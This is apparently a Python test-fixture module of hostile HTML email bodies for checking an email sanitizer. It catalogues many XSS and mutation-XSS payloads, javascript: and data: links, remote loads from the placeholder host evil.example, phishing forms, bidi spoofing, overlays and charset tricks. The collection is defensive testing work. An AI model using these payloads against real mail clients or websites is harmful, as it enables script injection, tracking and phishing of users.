"""Messages that were made to run, to load, to lead astray or to hide, one trick each."""

RUN = "alert(1);top.ran=1"
EVIL = "http://evil.example"


def mail(body: str | bytes, charset: str = "utf-8") -> bytes:
    """A message with an HTML body."""
    encoded = body if isinstance(body, bytes) else body.encode(charset)
    return (
        f"From: a@b.example\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: text/html; charset={charset}\r\n"
        "Content-Transfer-Encoding: 8bit\r\n\r\n"
    ).encode() + encoded


SCRIPTS = {
    "script": f"<script>{RUN}</script>seen",
    "script-src": f"<script src={EVIL}/s.js></script>seen",
    "script-case": f"<ScRiPt >{RUN}</sCrIpT >seen",
    "script-split": f"<scr<script>ipt>{RUN}</scr</script>ipt>seen",
    "script-unclosed": f"seen<script>{RUN}",
    "script-slash": f"<script/x>{RUN}</script/>seen",
    "script-in-comment": f"<!--><script>{RUN}</script>-->seen",
    "script-escaped": f"<script><!--<script></script>{RUN}</script>--></script>seen",
    "img-onerror": f'seen<img src=x onerror="{RUN}">',
    "img-onerror-slash": f"seen<img/src=x/onerror={RUN}>",
    "img-broken-quotes": f'seen<img """><script>{RUN}</script>">',
    "svg-onload": f"<svg onload='{RUN}'><text>t</text></svg>seen",
    "svg-script": f"<svg><script>{RUN}</script></svg>seen",
    "svg-animate": f'<svg><a><animate attributeName=href values="javascript:{RUN}"/><text>t</text></a></svg>seen',
    "svg-foreign": f"<svg><foreignObject><img src=x onerror='{RUN}'></foreignObject></svg>seen",
    "svg-style": f'<svg><style><img src=x onerror="{RUN}"></style></svg>seen',
    "mxss-math-style": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>"
    "</table></mtext></math>seen",
    "mxss-form-math": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "mxss-svg-p-style": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">seen',
    "mxss-noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">seen',
    "mxss-template": f"<template><script>{RUN}</script><img src=x onerror={RUN}></template>seen",
    "mxss-title": f'<svg><title><img src=x onerror="{RUN}"></title></svg><title><a title="</title><img src=x onerror={RUN}>">seen',
    "mxss-textarea": f'<textarea><img title="</textarea><img src=x onerror={RUN}>">seen',
    "mxss-xmp": f'<xmp><p title="</xmp><img src=x onerror={RUN}>">seen',
    "mxss-noembed": f'<noembed><p title="</noembed><script>{RUN}</script>">seen',
    "mxss-plaintext": f"seen<plaintext><script>{RUN}</script>",
    "mxss-select": f"<select><template><style><!--</style><a rel='--><img src onerror={RUN}>'></select>seen",
    "mxss-cdata": f"<svg><![CDATA[><img src=x onerror={RUN}>]]></svg>seen",
    "comment-unclosed": f"seen<!-- <script>{RUN}</script>",
    "comment-bang": f"<!-- --!><script>{RUN}</script>seen",
    "comment-bogus": f"<? <script>{RUN}</script> ?>seen</ <img src=x onerror={RUN}>>",
    "conditional-comment": f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->seen<![if !mso]>x<![endif]>",
    "null-bytes": f"<scr\0ipt>{RUN}</scr\0ipt><img src=x o\0nerror={RUN}>seen",
    "control-characters": f"<img\x0bsrc=x\x0conerror={RUN}>seen",
    "attribute-breakout": f"<p align='\"><script>{RUN}</script>'>seen",
    "style-breakout": f"<p style='color:red\"><script>{RUN}</script>'>seen",
    "alt-breakout": f"seen<img alt='<script>{RUN}</script>' src=cid:1>",
    "body-onload": f"<body onload='{RUN}' onpageshow='{RUN}'>seen",
    "focus": f"<input autofocus onfocus={RUN}><a href=# autofocus tabindex=1 onfocus={RUN}>seen</a>",
    "details-toggle": f"<details open ontoggle={RUN}>seen</details>",
    "animation": f"<style>@keyframes x{{}}</style><p style='animation-name:x' onanimationstart={RUN}>seen",
    "marquee": f"<marquee onstart={RUN}>seen</marquee>",
    "custom-element": f"<x-y onclick={RUN} contenteditable>seen</x-y>",
    "popover": f"<button popovertarget=x>seen</button><p id=x popover onbeforetoggle={RUN}>y</p>",
}
"""Each holds code that a browser would run."""

LINKS = {
    "javascript": f'<a href="javascript:{RUN}">seen</a>',
    "javascript-entities": f'<a href="&#106;&#x61;vascript&colon;{RUN}">seen</a>',
    "javascript-tabs": f'<a href="java\tscr\nipt:{RUN}">seen</a>',
    "javascript-tab-entity": f'<a href="jav&Tab;ascript&NewLine;:{RUN}">seen</a>',
    "javascript-control": f'<a href="\x01\x1f javascript:{RUN}">seen</a>',
    "javascript-case": f'<a href="JaVaScRiPt:{RUN}">seen</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">seen</a>',
    "data": '<a href="data:text/html,<script>alert(1)</script>">seen</a>',
    "file": '<a href="file:///etc/passwd">seen</a><a href="\\\\evil.example\\share">seen</a>',
    "view-source": '<a href="view-source:http://127.0.0.1/">seen</a><a href="blob:http://127.0.0.1/1">seen</a>',
    "relative": '<base href="http://evil.example/"><a href="/pay">seen</a><a href="?x">seen</a><a href="//evil.example">seen</a>',
    "xlink": f'<svg><a xlink:href="javascript:{RUN}"><text>x</text></a></svg>seen',
    "no-host": '<a href="https://">seen</a><a href="https:///">seen</a><a href="http://a b/">seen</a>',
}
"""Each holds links that nobody should follow."""

LOADS = {
    "img": f"<img src={EVIL}/i>seen",
    "image": f"<image src={EVIL}/i>seen",
    "img-schemeless": "<img src=//evil.example/i>seen",
    "img-backslashes": "<img src='\\\\evil.example\\i'>seen",
    "img-blanks": "<img src=' \nhttp:/\t/evil.example/i'>seen",
    "srcset": f"<img srcset='{EVIL}/1 1x, {EVIL}/2 2x'>seen",
    "picture": f"<picture><source srcset={EVIL}/p><img alt=x></picture>seen",
    "background": f"<table background={EVIL}/b><tr><td>seen</table>",
    "body-background": f"<body background={EVIL}/b>seen",
    "css-url": f"<p style='background-image:url({EVIL}/c)'>seen",
    "css-background": f"<p style='color:red;background:#fff url( \"{EVIL}/c\" )'>seen",
    "css-escaped": f"<p style='background:\\75\\72\\6c({EVIL}/c)'>seen",
    "css-comment": f"<p style='background:u/**/rl({EVIL}/c)'>seen",
    "css-list": f"<ul style='list-style:url({EVIL}/c)'><li>seen</ul>",
    "css-cursor": f"<p style='cursor:url({EVIL}/c),auto'>seen",
    "css-image-set": f"<p style='background-image:image-set(\"{EVIL}/c\" 1x)'>seen",
    "style-import": f"<style>@import '{EVIL}/s.css';</style>seen",
    "style-url": f"<style>body{{background:url({EVIL}/c)}}</style>seen",
    "style-font": f"<style>@font-face{{font-family:x;src:url({EVIL}/f)}}p{{font-family:x}}</style><p>seen",
    "link-stylesheet": f"<link rel=stylesheet href={EVIL}/s.css>seen",
    "link-preload": f"<link rel=preload as=image href={EVIL}/p>seen",
    "link-prefetch": f"<link rel=prefetch href={EVIL}/p>seen",
    "link-dns-prefetch": "<link rel=dns-prefetch href=//evil.example>seen",
    "link-preconnect": "<link rel=preconnect href=//evil.example>seen",
    "link-icon": f"<link rel=icon href={EVIL}/i>seen",
    "link-imagesrcset": f"<link rel=preload as=image imagesrcset={EVIL}/i>seen",
    "video-poster": f"<video poster={EVIL}/v autoplay></video>seen",
    "video-source": f"<video><source src={EVIL}/v></video>seen",
    "audio": f"<audio src={EVIL}/a autoplay></audio>seen",
    "track": f"<video><track src={EVIL}/t default></video>seen",
    "object": f"<object data={EVIL}/o>seen</object>",
    "embed": f"<embed src={EVIL}/e>seen",
    "iframe": f"<iframe src={EVIL}/f></iframe>seen",
    "frame": f"seen<frameset><frame src={EVIL}/f></frameset>",
    "input-image": f"<input type=image src={EVIL}/i>seen",
    "svg-image": f"<svg><image href={EVIL}/i /><image xlink:href={EVIL}/i /></svg>seen",
    "svg-use": f"<svg><use href={EVIL}/u#x /></svg>seen",
    "svg-feimage": f"<svg><filter><feImage href={EVIL}/u /></filter></svg>seen",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/m'>seen",
    "meta-refresh-quoted": f"<META HTTP-EQUIV=Refresh CONTENT=\"0; URL='{EVIL}/m'\">seen",
    "noscript-img": f"<noscript><img src={EVIL}/n></noscript>seen",
    "script-src": f"<script src={EVIL}/s.js></script>seen",
}
"""Each asks for loads over the network."""

TRICKS = {
    "iframe-srcdoc": f"<iframe srcdoc='<script>{RUN}</script>'></iframe>seen",
    "form": f"<form action={EVIL}/phish><input name=password type=password><button formaction={EVIL}>seen</button></form>",
    "target-top": f'<a href="{EVIL}/" target=_top ping={EVIL}/ping download rel=opener>seen</a>',
    "clobbering": "<a id=location name=cookie class=target href=http://evil.example/>seen</a><img name=body id=head>",
    "class-forged": '<bdi class="target">[bank.example]</bdi><strong class="warning cut image">seen</strong>',
    "covering": '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9;background:#fff">seen</div>',
    "css-expression": f"<p style='width:expression({RUN});behavior:url(#x);-moz-binding:url(x)'>seen",
    "bidi": f'<a href="{EVIL}/">\u202egro.knab\u202c seen</a>\u2066\u202dseen',
    "meta-csp": '<meta http-equiv=Content-Security-Policy content="default-src *"><meta charset=utf-7>seen',
    "base-target": "<base target=_top href=http://evil.example/><a href=http://evil.example/x>seen</a>",
    "document-end": f"seen</body></html><script>{RUN}</script><p>seen",
    "cid": "<img src=cid:logo@1 alt=logo><img src='data:image/png;base64,iVBORw0KGgo='>seen",
    "dialog": "<dialog open style='top:0'>seen</dialog>",
    "portal": f"<portal src={EVIL}/x></portal><fencedframe src={EVIL}></fencedframe>seen",
    "template-shadow": f"<div><template shadowrootmode=open><img src={EVIL}/x></template>seen</div>",
}
"""Each leads astray, covers or forges."""

BYTES = {
    "utf-7": mail(b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-seen", "utf-7"),
    "utf-7-undeclared": mail(b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-seen"),
    "utf-16": mail(f"<script>{RUN}</script><img src={EVIL}/i onerror={RUN}>seen", "utf-16"),
    "utf-16-as-utf-8": mail(f"seen<script>{RUN}</script>".encode("utf-16-le")),
    "iso-2022-jp": mail(b'seen<p title="\x1b$B"><img src=x onerror=alert(1)>\x1b(B">', "iso-2022-jp"),
    "overlong": mail(b"\xc0\xbcscript\xc0\xbealert(1)\xc0\xbc/script\xc0\xbeseen"),
    "broken-bytes": mail(b'seen<p title="\xf0">\x80<img src=x onerror=alert(1)>\xff\xfe'),
    "alternative": b"From: a@b.example\nContent-Type: multipart/alternative; boundary=x\n\n--x\n\nplain\n--x\n"
    b"Content-Type: text/html\n\nseen<script>alert(1)</script>\n--x--\n",
}
"""Whole messages whose bytes are the trick."""

HOSTILE = {
    **{
        f"{kind}-{name}": mail(body)
        for kind, bodies in {"script": SCRIPTS, "link": LINKS, "load": LOADS, "trick": TRICKS}.items()
        for name, body in bodies.items()
    },
    **{f"bytes-{name}": data for name, data in BYTES.items()},
}
